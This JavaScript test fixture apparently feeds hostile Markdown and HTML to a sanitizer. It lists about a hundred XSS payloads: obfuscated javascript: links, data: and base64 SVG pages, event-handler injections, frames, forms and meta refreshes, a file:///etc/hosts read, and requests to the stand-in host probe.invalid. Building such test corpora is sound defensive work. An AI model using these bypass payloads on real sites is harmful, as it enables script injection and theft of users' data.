import { snippets } from './hostile-document.js';

/** Addresses that run, read or send something, in Markdown and in HTML, hidden in every way. */
export const addresses = snippets({
  link: '[words](javascript:__nhsProbe())',
  'link in angle brackets': '[words](<javascript:__nhsProbe()>)',
  'link in mixed case': '[words](JaVaScRiPt:__nhsProbe())',
  'link with a title': '[words](javascript:__nhsProbe() "title")',
  'link with an entity for the colon': '[words](javascript&colon;__nhsProbe())',
  'link with a number for the colon': '[words](javascript&#58;__nhsProbe())',
  'link with a number and no semicolon': '<a href="javascript&#58__nhsProbe()">words</a>',
  'link with many leading zeros': '<a href="&#0000000000106avascript:__nhsProbe()">words</a>',
  'link with a hexadecimal number': '[words](&#x6A;avascript:__nhsProbe())',
  'link with every letter as a number':
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__nhsProbe()">words</a>',
  'link with every letter in hexadecimal and no semicolon':
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A__nhsProbe()">words</a>',
  'link with an entity twice encoded':
    '[words](javascript&amp;colon;__nhsProbe()) <a href="javascript:__nhsProbe()">words</a>',
  'link with a tab by name': '[words](java&Tab;script:__nhsProbe())',
  'link with a line feed by name': '[words](java&NewLine;script:__nhsProbe())',
  'link with a line feed by number': '<a href="java&#10;script:__nhsProbe()">words</a>',
  'link with a carriage return by number': '<a href="java&#13;script:__nhsProbe()">words</a>',
  'link with a tab before the colon': '<a href="javascript&Tab;:__nhsProbe()">words</a>',
  'link with line feeds': '<a href="java\nscript\n:__nhsProbe()">words</a>',
  'link with a tab': '<a href="jav\tascript:__nhsProbe()">words</a>',
  'link with spaces in front': '<a href="   javascript:__nhsProbe()">words</a>',
  'link with control characters in front': '<a href="\u0001\u0008\u001fjavascript:__nhsProbe()">words</a>',
  'link with control characters by number': '<a href="&#1;&#14; javascript:__nhsProbe()">words</a>',
  'link with a null by number':
    '<a href="java&#0;script:__nhsProbe()"> words</a><a href=javascript:__nhsProbe()>words</a>',
  'link with a byte order mark':
    '<a href="\ufeffjavascript:__nhsProbe()">words</a><a href="javascript:__nhsProbe()">words</a>',
  'link with a soft hyphen': '[words](java\u00adscript:__nhsProbe()) <a href="javascript:__nhsProbe()">words</a>',
  'link with invisible joiners': '[words](java\u200d\u200bscript:__nhsProbe()) [words](javascript:__nhsProbe())',
  'link with full-width letters': '[words](ｊａｖａｓｃｒｉｐｔ：__nhsProbe()) [words](javascript:__nhsProbe())',
  'link with a long s': '[words](javaſcript:__nhsProbe()) [words](javascript:__nhsProbe())',
  'link in percent':
    '[words](javascript%3A__nhsProbe()) [words](%6Aavascript:__nhsProbe()) [words](javascript:__nhsProbe%28%29)',
  'link in percent twice': '[words](javascript%253A__nhsProbe()) [words](javascript:__nhsProbe())',
  'link with backslashes':
    '[words](java\\script:__nhsProbe()) [words](javascript\\:__nhsProbe()) <a href="javascript:\\__nhsProbe();__nhsProbe()">words</a>',
  'link with a comment that looks like a host': '[words](javascript://example.com/%0A__nhsProbe())',
  'link that looks like a known address': '[words](javascript:/*https://www.nhs.uk/*/__nhsProbe())',
  'scheme in a scheme':
    '[words](feed:javascript:__nhsProbe()) [words](view-source:javascript:__nhsProbe()) [words](javascript:javascript:__nhsProbe())',
  'scheme after an address':
    '[words](https:javascript:__nhsProbe()) [words](jar:javascript:__nhsProbe()!/) [words](javascript:__nhsProbe())',
  vbscript:
    '[words](vbscript:__nhsProbe()) <a href="livescript:__nhsProbe()">words</a> <a href="mocha:__nhsProbe()">words</a> <a href="javascript:__nhsProbe()">words</a>',
  'data page':
    '[words](data:text/html,<script>opener.__nhsProbe()</script>) <iframe src="data:text/html,<script>location=`http://probe.invalid/data`</script>"></iframe>',
  'data page in base 64':
    '[words](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19uaHNQcm9iZSgpPC9zY3JpcHQ+) <embed src="data:text/html;base64,PGltZyBzcmM9Imh0dHA6Ly9wcm9iZS5pbnZhbGlkLzEiPg==">',
  'data page in capitals with spaces':
    '<a href=" DATA:text/html;charset=utf-8,words">words</a> <iframe src=" DATA:text/html,<img src=http://probe.invalid/data>"></iframe>',
  'data drawing as an image': '![words](data:image/svg+xml,<svg/onload=__nhsProbe()>) <img src onerror="__nhsProbe()">',
  'data drawing in base 64':
    '![words](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=) <img src onerror="__nhsProbe()">',
  'data picture that ends in a tag':
    '![words](data:image/png;base64,AAAA"onerror="__nhsProbe()) <img src="data:image/png;base64,AAAA"onerror="__nhsProbe()">',
  'data picture as a link': '[words](data:image/png;base64,iVBORw0KGgo=) [words](javascript:__nhsProbe())',
  'blob and file':
    '[words](blob:https://probe.invalid/1) [words](file:///etc/hosts) <img src="file:///etc/hosts"> <img src="blob:null/1" onerror="__nhsProbe()">',
  'file system and resources of the browser':
    '[words](filesystem:https://probe.invalid/1) [words](chrome://settings) [words](about:blank) [words](resource://x) <a href="javascript:__nhsProbe()">words</a>',
  'schemes of programs':
    '[words](ms-word:ofe|u|http://probe.invalid/x) [words](tel:999) [words](sms:999) [words](ssh://probe.invalid) [words](web+x:y) <iframe src="http://probe.invalid/program"></iframe>',
  'web socket and file transfer':
    '[words](ws://probe.invalid) [words](wss://probe.invalid) [words](ftp://probe.invalid/x) <iframe src="http://probe.invalid/socket"></iframe>',
  'automatic link': '<javascript:__nhsProbe()> [words](javascript:__nhsProbe())',
  'automatic link of data':
    '<data:text/html,words> <vbscript:words> <iframe src="http://probe.invalid/automatic"></iframe>',
  'reference link': '[words][target]\n\n[target]: javascript:__nhsProbe()',
  'reference link with entities': '[words][target]\n\n[target]: java&Tab;script&colon;__nhsProbe()',
  'reference image': '![words][target]\n\n[target]: javascript:__nhsProbe()\n\n<img src onerror="__nhsProbe()">',
  image: '![words](javascript:__nhsProbe()) <img src="javascript:__nhsProbe()" onerror="__nhsProbe()">',
  'link around an image': '[![words](picture.png)](javascript:__nhsProbe())',
  'HTML link': '<a href="javascript:__nhsProbe()">words</a>',
  'HTML link without quotes': '<a href=javascript:__nhsProbe()>words</a>',
  'HTML link with two addresses':
    '<a href="#" href="javascript:__nhsProbe()">words</a><a href="javascript:__nhsProbe()" href="#">words</a>',
  'HTML link with a broken first address':
    '<a href=`javascript:__nhsProbe()`>words</a><a href="javascript:__nhsProbe()">words</a>',
  'link that opens a window':
    '<a target="_blank" rel="opener" href="javascript:opener.__nhsProbe()">words</a><a href="javascript:__nhsProbe()" target="_self">words</a>',
  'link that pings': '<a href="#words" ping="http://probe.invalid/ping" onclick="__nhsProbe()">words</a>',
  'link that downloads': '<a href="#words" download="x.html" onclick="__nhsProbe()">words</a>',
  map: '<img src="picture.png" usemap="#m"><map name="m"><area shape="default" href="javascript:__nhsProbe()"></map>',
  form: '<form action="javascript:__nhsProbe()"><input type="submit" value="words"></form>',
  'form that sends': '<form action="http://probe.invalid/form"><input name="x" value="y"><button>words</button></form>',
  'button with its own address': '<form><button formaction="javascript:__nhsProbe()">words</button></form>',
  'input with its own address':
    '<form id="f"></form><input type="submit" form="f" formaction="javascript:__nhsProbe()" value="words">',
  frame: '<iframe src="javascript:parent.__nhsProbe()"></iframe>',
  'frame with its own document': '<iframe srcdoc="<script>parent.__nhsProbe()</script>"></iframe>',
  'frame that loads': '<iframe src="http://probe.invalid/frame"></iframe>',
  object: '<object data="javascript:parent.__nhsProbe()"></object><object data="http://probe.invalid/object"></object>',
  embed: '<embed src="javascript:__nhsProbe()"><embed src="http://probe.invalid/embed">',
  applet:
    '<applet code="javascript:__nhsProbe()" codebase="http://probe.invalid/applet"></applet><iframe src="http://probe.invalid/applet"></iframe>',
  base: '<base href="http://probe.invalid/base/"><iframe src="frame"></iframe>',
  'refreshing page': '<meta http-equiv="refresh" content="0;url=http://probe.invalid/refresh">',
  'refreshing page with script':
    '<meta http-equiv="refresh" content="0;url=javascript:__nhsProbe()"><img src onerror="__nhsProbe()">',
  'policy of its own':
    '<meta http-equiv="Content-Security-Policy" content="script-src *"><script src="http://probe.invalid/script"></script><img src onerror="__nhsProbe()">',
  'link elements':
    '<link rel="prefetch" href="http://probe.invalid/prefetch"><link rel="preload" as="image" href="http://probe.invalid/preload"><link rel="stylesheet" href="http://probe.invalid/sheet">',
  preconnection:
    '<link rel="preconnect" href="http://probe.invalid"><link rel="dns-prefetch" href="//probe.invalid"><link rel="modulepreload" href="http://probe.invalid/module"><link rel="icon" href="http://probe.invalid/icon"><iframe src="//probe.invalid/preconnect"></iframe>',
  'import of HTML':
    '<link rel="import" href="http://probe.invalid/import"><link rel="manifest" href="http://probe.invalid/manifest"><link rel="stylesheet" href="http://probe.invalid/sheet">',
  'image set':
    '<img srcset="http://probe.invalid/set 1x" src="picture.png"><picture><source srcset="http://probe.invalid/source"><img src="picture.png"></picture>',
  'old image addresses':
    '<img lowsrc="http://probe.invalid/low" dynsrc="http://probe.invalid/dyn" longdesc="javascript:__nhsProbe()" srcset="http://probe.invalid/set">',
  'background attribute':
    '<table background="http://probe.invalid/background"><tr><td background="http://probe.invalid/cell">words</td></tr></table>',
  'quotation source':
    '<blockquote cite="javascript:__nhsProbe()">words</blockquote><q cite="http://probe.invalid/q">words</q><a href="javascript:__nhsProbe()">words</a>',
  'title that closes the tag':
    '[words](https://probe.invalid/x "\\"><img src onerror=__nhsProbe()>")  <img src onerror="__nhsProbe()">',
  'address that closes the tag':
    '[words](https://probe.invalid/"onmouseover="__nhsProbe()) <a href="https://probe.invalid/"onmouseover="__nhsProbe()">words</a>',
  'scheme longer than anything that looks': `[words](${'x'.repeat(2100)}:words) <a href="${'&Tab;'.repeat(900)}javascript:__nhsProbe()">words</a>`,
  'address that no browser can read':
    '[words](https://[) [words](https://x:99999999/) [words](http://%00/) [words](https:///) ![words](https://[) [words](javascript:__nhsProbe())',
  'mail with script':
    '[words](mailto:javascript:__nhsProbe()) <mailto:x@probe.invalid?body=__nhsProbe()> <iframe src="http://probe.invalid/mail"></iframe>',
  'address without a scheme':
    '[words](//probe.invalid/x) [words](\\\\probe.invalid/x) <iframe src="//probe.invalid/frame"></iframe>',
  'data page with an entity for the colon':
    '[words](data&colon;text/html,words) <a href="d&#97;ta&#58text/html,words">words</a> <iframe src="data&colon;text/html,<img src=http://probe.invalid/1>"></iframe>',
  'data page with a tab or a line feed':
    '[words](da&Tab;ta:text/html,words) <a href="da\nta:text/html,words">words</a> <iframe src="da&NewLine;ta:text/html,<img src=http://probe.invalid/1>"></iframe>',
  'data page in percent':
    '[words](data%3Atext/html,words) [words](%64ata:text/html,%3Cscript%3E) [words](data:text/html,%3Cimg%20src=http://probe.invalid/1%3E)',
  'data page of other kinds':
    '[words](data:application/xhtml+xml,words) [words](data:text/xml,words) [words](data:,words) [words](data:;charset=utf-7,words) <iframe src="data:,"></iframe>',
  'data page behind unseen characters':
    '<a href="\u0001\u200bdata:text/html,words">words</a> <a href="&#xFEFF;data:text/html,words">words</a> <iframe src="\u0001data:text/html,<img src=http://probe.invalid/1>"></iframe>',
  'data page that is very long': `<a href="data:text/html,${'x'.repeat(200_000)}">words</a> [words](data:text/html,${'%3C'.repeat(50_000)}) <iframe src="http://probe.invalid/long"></iframe>`,
  'data picture that is very long': `![words](data:image/png;base64,${'A'.repeat(400_000)}) <img src="data:image/png;base64,${'A'.repeat(400_000)}" onload="__nhsProbe()" onerror="__nhsProbe()">`,
  'data picture that is no picture':
    '![words](data:image/png,<svg/onload=__nhsProbe()>) ![words](data:image/png;charset=utf-8;base64,AAAA) ![words](data:image/x-icon;base64,AAAA) <img src="data:image/png;base64" onerror="__nhsProbe()">',
  'data script and data style':
    '<script src="data:text/javascript,__nhsProbe()"></script><link rel="stylesheet" href="data:text/css,@import url(http://probe.invalid/style)">',
  'frames of other names':
    '<portal src="http://probe.invalid/portal"></portal><fencedframe src="http://probe.invalid/fenced"></fencedframe><webview src="http://probe.invalid/view"></webview><iframe src="http://probe.invalid/frame"></iframe>',
  'frame with its own rules':
    '<iframe src="http://probe.invalid/rules" allow="camera; microphone" sandbox="allow-scripts allow-top-navigation" csp="x" credentialless name="top" loading="eager"></iframe>',
  'old elements that load':
    '<bgsound src="http://probe.invalid/sound"><layer src="http://probe.invalid/layer"></layer><isindex action="javascript:__nhsProbe()" type="image" src="http://probe.invalid/index"><xml src="http://probe.invalid/xml"></xml><iframe src="http://probe.invalid/old"></iframe>',
  'elements that ask for a permission':
    '<permission type="camera" onclick="__nhsProbe()">words</permission><geolocation autolocate onlocation="__nhsProbe()" onclick="__nhsProbe()">words</geolocation>',
  'link that tells who reads':
    '<a href="#words" attributionsrc="http://probe.invalid/attribution" referrerpolicy="unsafe-url" hreflang="x" type="text/html" rel="opener prefetch" onclick="__nhsProbe()">words</a>',
  'image that tells who reads':
    '<img src="picture.png" attributionsrc="http://probe.invalid/attribution" browsingtopics sharedstoragewritable crossorigin="use-credentials" elementtiming="x" onerror="__nhsProbe()">',
  'base that opens windows':
    '<base target="_blank" href="javascript:/"><a href="#words" onclick="__nhsProbe()">words</a>',
  'addresses that link themselves':
    'www.probe.invalid http://probe.invalid/x"onclick="__nhsProbe() javascript:__nhsProbe() data:text/html,words x@probe.invalid <a href="javascript:__nhsProbe()">words</a>',
  'address with a user and a password':
    '[www.nhs.uk](https://www.nhs.uk:443@probe.invalid/) <iframe src="http://user:password@probe.invalid/user"></iframe>',
  'link in a link':
    '[a [words](javascript:__nhsProbe()) b](https://probe.invalid/) [![words](picture.png)][x]\n\n[x]: javascript:__nhsProbe()',
  'places in the page around':
    '[words](#) [words](#top) [words](#:~:text=words) [words](#host) <a href="#host" onclick="__nhsProbe()">words</a>',
  'schemes of extensions and debuggers':
    '[words](chrome-extension://x/y) [words](moz-extension://x/y) [words](devtools://devtools) [words](intent://x#Intent;scheme=javascript;end) [words](javascript:debugger;__nhsProbe())',
});
